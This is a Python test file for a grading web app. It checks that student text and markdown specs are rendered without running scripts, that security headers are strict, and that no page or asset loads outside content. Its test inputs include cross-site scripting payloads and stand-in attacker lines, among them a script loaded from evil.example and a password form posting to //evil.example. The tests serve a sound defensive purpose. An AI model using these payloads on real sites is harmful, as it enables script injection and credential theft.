"""People's texts stay text, and pages load nothing from other sites."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from grader.schemas.hardware import KernelUsage
from grader.schemas.report import Flag, Report
from grader.schemas.submission import SubmissionView
from grader.service.accounts.accounts import User
from grader.service.platform import Platform
from grader.web import pages
from grader.web.pages import markdown
from tests.web import builders
from tests.web.conftest import BOARDS, PUBLIC, Visit

STATIC = Path(pages.__file__).parents[1] / "static"
# A link to another site loads nothing by itself; "noreferrer" hides the linking page.
LINK = re.compile(r'<a href="https://[^"]+" rel="noopener noreferrer">')
# Things that a browser would load: scripts, styles, images, fonts, frames, and other links.
OUTSIDE = re.compile(
    r"""(?:src|href|srcset|poster|data|action)\s*=\s*["']?\s*(?:[a-z]+:)?//|url\(\s*["']?(?:[a-z]+:)?//""",
    re.I,
)


def without_links(page: str) -> tuple[str, int]:
    """``page`` without the start tags of its links to other sites, and their number."""
    return LINK.subn("<a>", page)


@pytest.mark.parametrize(
    "loads",
    [
        '<script src="https://evil.example/x.js">',
        '<link rel="stylesheet" href="//evil.example/x.css">',
        "<img src=https://evil.example/x.png>",
        '<img srcset="https://evil.example/x.png 2x">',
        '<p class="x" data-x="url(https://evil.example/font.woff2)">',
        '<a href="https://evil.example">',
        '<a href="http://evil.example" rel="noopener noreferrer">',
    ],
)
def test_the_scanner_finds_foreign_content(loads: str) -> None:
    assert OUTSIDE.search(without_links(loads)[0])


class TestNothingRuns:
    EVIL = "</pre></textarea><script>alert(1)</script><img src=x onerror=alert(1)>"

    def evil_report(self) -> Report:
        evil = self.EVIL
        report = builders.wrong()
        case = report.cases[1].model_copy(update={"name": evil, "detail": evil, "hint": evil, "output": evil})
        update = {
            "cases": [case],
            "compiler_log": evil,
            "detail": evil,
            "hint": evil,
            "environment": {evil: evil},
            "kernels": [KernelUsage(name=evil, registers=1)],
            "library_ops": [evil],
            "flags": [Flag.LIBRARY_KERNEL],
        }
        return report.model_copy(update=update)

    def test_students_text_runs_nothing(
        self, visit: Visit, platform: Platform, ada: User, teacher: User
    ) -> None:
        view = builders.judged(
            platform, ada, self.evil_report(), source=f"# {self.EVIL}\n", filename="<script>x.py"
        )
        for path in (f"/submissions/{view.id}", f"/submissions/{view.id}/panel", "/submissions?everyone=1"):
            page = visit(teacher).get(path).text
            assert "<script>alert" not in page
            assert "<img" not in page
            assert "<script>x" not in page

    @pytest.mark.parametrize(
        "spec",
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href='javascript:alert(1)'>x</a>",
            "[x](javascript:alert(1))",
            "<p style='position:fixed'>x</p>",
            "<iframe src='//evil.example'></iframe>",
            "<svg onload=alert(1)>",
            "<form action='//evil.example'><input name=password></form>",
            "```python\n<script>alert(1)</script>\n```",
            "<details ontoggle=alert(1) open>x</details>",
        ],
    )
    def test_a_spec_runs_nothing(self, spec: str) -> None:
        html = str(markdown.render(spec))
        assert not re.search(r"<(script|img|iframe|svg|form|input)|\son\w+=|\sstyle=|href=.javascript", html)

    def test_a_spec_keeps_harmless_markup(self) -> None:
        html = str(
            markdown.render(
                "<details><summary>Why</summary>\n\n- **so**\n\n</details>\n\n| a |\n|---|\n| 1 |\n"
            )
        )
        for part in ("<details>", "<summary>Why</summary>", "<strong>so</strong>", "<td>1</td>"):
            assert part in html

    def test_headers_forbid_scripts_anyway(self, visit: Visit, seen: SubmissionView, ada: User) -> None:
        client = visit(ada)
        for path in ("/", f"/submissions/{seen.id}", "/nothing", "/api/v1/me", "/static/page.js"):
            with client.get(path) as answer:
                headers = answer.headers
            policy = headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy
            assert "frame-ancestors 'none'" in policy
            assert "unsafe" not in policy
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["Referrer-Policy"] == "same-origin"

    def test_no_page_needs_inline_or_foreign_content(
        self, visit: Visit, platform: Platform, seen: SubmissionView, ada: User
    ) -> None:
        client = visit(ada)
        waiting = builders.hand_in(platform, ada)
        links = 0
        for path in (
            *PUBLIC,
            *BOARDS,
            "/submissions",
            f"/submissions/{seen.id}",
            f"/submissions/{waiting.id}",
            "/x",
        ):
            page, found = without_links(client.get(path).text)
            links += found
            assert not re.search(r"<script(?![^>]*\ssrc=)|<style|\sstyle=|\son[a-z]+=", page), path
            assert not OUTSIDE.search(page), path
        assert links >= 3, "the specs link to what they are based on"

    def test_no_style_or_script_loads_foreign_content(self) -> None:
        files = [entry2 for entry2 in STATIC.iterdir() if entry2.suffix in (".css", ".js", ".svg")]
        assert len(files) >= 5
        for path in files:
            found = re.findall(
                r"""@import|(?:url\(|fetch\(|src=|href=)\s*["']?(?:https?:)?//""", path.read_text()
            )
            assert found == [], path.name
